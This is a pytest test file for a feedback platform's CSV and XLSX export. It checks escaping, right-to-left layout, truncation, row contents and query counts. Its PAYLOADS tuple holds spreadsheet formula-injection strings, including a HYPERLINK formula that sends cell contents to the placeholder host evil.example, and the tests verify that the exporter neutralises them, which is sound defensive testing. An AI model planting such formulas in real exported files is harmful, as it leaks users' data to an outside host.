"""The files themselves: read back as a spreadsheet would read them."""

from __future__ import annotations

import csv
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest
from flask import Flask
from flask_babel import force_locale

from nursery.feedback.comments.lifecycle import CommentState
from nursery.feedback.consolidation import commands as consolidation
from nursery.feedback.consolidation.lifecycle import Disposition
from nursery.feedback.exchange import csv_table, table, xlsx_table
from nursery.feedback.exchange.table import Column, Table
from tests.feedback.consolidation.arrange import (
    PARAGRAPH_AR,
    PARAGRAPH_EN,
    add_comment,
    add_comments,
    arrange,
)
from tests.support.queries import counted_queries

# A moment as spreadsheets keep it: on a clock in Damascus, without a zone.
LOCAL_NOON = datetime(2026, 11, 21, 12, 0, tzinfo=UTC).replace(tzinfo=None)
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "  =1+1",
    "＝1+1",
    "http://evil.example/",
)


def _one_row(*values: table.Value) -> Table:
    columns = [Column(f"c{position}", 10) for position in range(len(values))]
    return Table("عنوان", "ar", columns, iter([values]))


class TestCsv:
    def test_no_cell_is_executed(self, app: Flask, tmp_path: Path) -> None:
        file = tmp_path / "table.csv"
        csv_table.write(file, _one_row(*PAYLOADS, "a=1", 7, None, LOCAL_NOON))
        assert file.read_bytes().startswith(b"\xef\xbb\xbf")
        with file.open(encoding="utf-8-sig", newline="") as stream:
            cells = list(csv.reader(stream))[1]
        assert cells[:8] == [f"'{payload}" for payload in PAYLOADS[:8]]
        assert cells[8:] == ["http://evil.example/", "a=1", "7", "", "2026-11-21 12:00"]

    def test_headings_are_safe_too(self, app: Flask, tmp_path: Path) -> None:
        file = tmp_path / "table.csv"
        csv_table.write(file, Table("t", "en", [Column("=1", 5)], iter([])))
        assert file.read_text("utf-8-sig").strip() == "'=1"


class TestXlsx:
    def test_no_cell_is_a_formula_or_a_link(self, app: Flask, tmp_path: Path) -> None:
        file = tmp_path / "table.xlsx"
        with app.app_context(), force_locale("ar_SY"):
            assert xlsx_table.write(file, _one_row(*PAYLOADS)) == 1
        sheet = openpyxl.load_workbook(file).active
        assert sheet is not None
        cells = list(sheet[2])
        assert {cell.data_type for cell in cells} == {"s"}
        assert all(cell.hyperlink is None for cell in cells)
        assert [cell.value for cell in cells][:4] == list(PAYLOADS[:4])

    @pytest.mark.parametrize(("language", "rtl"), [("ar", True), ("en", False)])
    def test_sheet(self, app: Flask, tmp_path: Path, language: str, rtl: bool) -> None:
        file = tmp_path / "table.xlsx"
        moment = LOCAL_NOON
        rows = iter([(1, "نص", moment), (2, "نص", moment)])
        columns = [Column("a", 8), Column("b", 40), Column("c", 17)]
        with app.app_context(), force_locale(language):
            assert xlsx_table.write(file, Table("t", language, columns, rows)) == 2
        sheet = openpyxl.load_workbook(file).active
        assert sheet is not None
        assert bool(sheet.sheet_view.rightToLeft) is rtl
        assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", "A1:C3")
        assert sheet["A2"].value == 1 and sheet["C3"].value == moment and sheet["C3"].is_date
        assert sheet["B2"].alignment.wrap_text and 40 <= sheet.column_dimensions["B"].width < 42

    def test_a_text_longer_than_a_cell_is_cut_and_says_so(self, app: Flask, tmp_path: Path) -> None:
        file = tmp_path / "table.xlsx"
        with app.app_context(), force_locale("en"):
            xlsx_table.write(file, _one_row("ن" * 50_000))
        sheet = openpyxl.load_workbook(file).active
        assert sheet is not None and isinstance(sheet["A2"].value, str)
        assert len(sheet["A2"].value) < 32_767
        assert sheet["A2"].value.endswith("The whole text is on the platform.]")


@pytest.mark.usefixtures("context")
class TestRows:
    def test_columns_and_words(self) -> None:
        scene = arrange()
        first = add_comment(scene, 1, proposed_text="نص بديل")
        add_comment(scene, 2, author=1, section=1, block=None)
        add_comment(scene, None, state=CommentState.DRAFT)
        consolidation.answer(first, Disposition.NOT_ACCEPTED, "لا مصدر.", actor=scene.reviewer)
        with force_locale("ar_SY"):
            made = table.of_round(scene.round_id, "ar")
            assert len(made.columns) == 13
            rows = [list(row) for row in made.rows]
        assert len(rows) == 2
        assert rows[0][:7] == [
            1,
            "جمعية الياسمين",
            "منظمة غير حكومية",
            "1.1",
            "قسم الدماغ والنوم 1",
            "[1.1.1]",
            PARAGRAPH_AR,
        ]
        assert rows[0][8:12] == ["العبارة تحتاج إلى مصدر.", "نص بديل", "غير مقبول", "لا مصدر."]
        assert rows[0][12] == LOCAL_NOON
        assert rows[1][5:7] == [None, None] and rows[1][10:12] == [None, None]

    def test_english(self) -> None:
        scene = arrange()
        add_comment(scene, 1)
        with force_locale("en"):
            row = next(table.of_round(scene.round_id, "en").rows)
        assert row[1:3] == ("Jasmine Association", "Non-governmental organisation")
        assert row[6] == PARAGRAPH_EN

    def test_no_person_and_no_address(self) -> None:
        scene = arrange()
        add_comment(scene, 1)
        with force_locale("en"):
            text = str([list(row) for row in table.of_round(scene.round_id, "en").rows])
        assert "@" not in text and scene.authors[0].name not in text

    def test_statements_do_not_grow(self) -> None:
        scene = arrange()
        counts = []
        for first, last in ((1, 1), (2, 100)):
            for number in range(first, last + 1):
                comment = add_comment(scene, number)
                if number % 3:
                    consolidation.answer(comment, Disposition.NOTED, actor=scene.reviewer)
            with force_locale("en"), counted_queries() as statements:
                rows = list(table.of_round(scene.round_id, "en").rows)
            assert [row[0] for row in rows] == list(range(1, last + 1))
            assert [row[10] is None for row in rows] == [number % 3 == 0 for number in range(1, last + 1)]
            counts.append(len(statements))
        assert counts[0] == counts[1] <= 3

    def test_many(self) -> None:
        scene = arrange()
        add_comments(scene, 20)
        with force_locale("ar_SY"):
            assert len(list(table.of_round(scene.round_id, "ar").rows)) == 20
